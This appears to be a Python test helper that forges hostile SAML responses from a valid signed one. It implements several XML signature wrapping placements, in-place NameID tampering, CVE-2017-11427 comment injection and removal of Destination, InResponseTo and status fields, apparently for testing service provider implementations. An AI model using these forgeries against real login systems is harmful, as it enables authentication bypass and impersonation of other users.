"""Hostile variants of a valid signed response, made by editing its XML: signature wrapping
(XSW, after Somorovsky et al., "On Breaking SAML", 2012) and NameID comment injection
(CVE-2017-11427). They take and return XML bytes and know nothing of any SAML library, so
the same suite can run against any SP implementation."""

import copy

from lxml import etree

NS = {
    "samlp": "urn:oasis:names:tc:SAML:2.0:protocol",
    "saml": "urn:oasis:names:tc:SAML:2.0:assertion",
    "ds": "http://www.w3.org/2000/09/xmldsig#",
}


def _parse(xml: bytes | str) -> etree._Element:
    data = xml.encode() if isinstance(xml, str) else xml
    return etree.fromstring(data, etree.XMLParser(remove_blank_text=False, resolve_entities=False))


def _out(root: etree._Element) -> bytes:
    return etree.tostring(root, xml_declaration=True, encoding="UTF-8")


def _signed_assertion(root: etree._Element) -> etree._Element:
    return root.find("saml:Assertion", NS)


def _evil_copy(assertion: etree._Element, evil: str, *, new_id: str = "_evil1") -> etree._Element:
    """An unsigned copy of the assertion naming `evil` instead."""
    forged = copy.deepcopy(assertion)
    forged.set("ID", new_id)
    for signature in forged.findall("ds:Signature", NS):
        forged.remove(signature)
    forged.find("saml:Subject/saml:NameID", NS).text = evil
    for value in forged.iterfind(".//saml:AttributeValue", NS):
        if value.text and "@" in value.text:
            value.text = evil
    return forged


def tamper_name_id(xml: bytes | str, evil: str) -> bytes:
    """The NameID changed in place: the digest no longer matches."""
    root = _parse(xml)
    _signed_assertion(root).find("saml:Subject/saml:NameID", NS).text = evil
    return _out(root)


def wrap_evil_before(xml: bytes | str, evil: str) -> bytes:
    """XSW classic placement 1: an unsigned assertion before the signed one, as its sibling
    (a reader that takes "the first assertion" reads the evil one)."""
    root = _parse(xml)
    signed = _signed_assertion(root)
    signed.addprevious(_evil_copy(signed, evil))
    return _out(root)


def wrap_evil_after(xml: bytes | str, evil: str) -> bytes:
    """The same, the unsigned assertion after the signed one."""
    root = _parse(xml)
    signed = _signed_assertion(root)
    signed.addnext(_evil_copy(signed, evil))
    return _out(root)


def wrap_signed_inside_evil(xml: bytes | str, evil: str) -> bytes:
    """XSW classic placement 2: the unsigned assertion takes the signed one's place and
    carries the signed one inside it (the signature still verifies by its ID reference)."""
    root = _parse(xml)
    signed = _signed_assertion(root)
    forged = _evil_copy(signed, evil)
    signed.addprevious(forged)
    forged.append(signed)
    return _out(root)


def wrap_signed_in_extensions(xml: bytes | str, evil: str) -> bytes:
    """The signed assertion hidden in samlp:Extensions; the unsigned one in its place."""
    root = _parse(xml)
    signed = _signed_assertion(root)
    signed.addprevious(_evil_copy(signed, evil))
    extensions = etree.Element(f"{{{NS['samlp']}}}Extensions")
    root.find("saml:Issuer", NS).addnext(extensions)
    extensions.append(signed)
    return _out(root)


def wrap_same_id(xml: bytes | str, evil: str) -> bytes:
    """The unsigned assertion reuses the signed one's ID (reference confusion)."""
    root = _parse(xml)
    signed = _signed_assertion(root)
    signed.addprevious(_evil_copy(signed, evil, new_id=signed.get("ID")))
    return _out(root)


def inject_comment(xml: bytes | str, real: str, shown: str) -> bytes:
    """CVE-2017-11427: the signed NameID `real` rewritten as `shown<!---->rest`. The
    signature still verifies (exclusive c14n drops comments); a reader that stops at the
    comment sees only `shown`."""
    assert real.startswith(shown)
    root = _parse(xml)
    targets = [_signed_assertion(root).find("saml:Subject/saml:NameID", NS)]
    targets += [v for v in root.iterfind(".//saml:AttributeValue", NS) if v.text == real]
    for element in targets:
        element.text = shown
        comment = etree.Comment("")
        comment.tail = real[len(shown) :]
        element.append(comment)
    return _out(root)


def drop_destination(xml: bytes | str) -> bytes:
    root = _parse(xml)
    root.attrib.pop("Destination", None)
    return _out(root)


def drop_in_response_to(xml: bytes | str) -> bytes:
    """Response/@InResponseTo removed (it is outside an assertion-only signature)."""
    root = _parse(xml)
    root.attrib.pop("InResponseTo", None)
    return _out(root)


def set_status(xml: bytes | str, value: str) -> bytes:
    root = _parse(xml)
    root.find("samlp:Status/samlp:StatusCode", NS).set("Value", value)
    return _out(root)
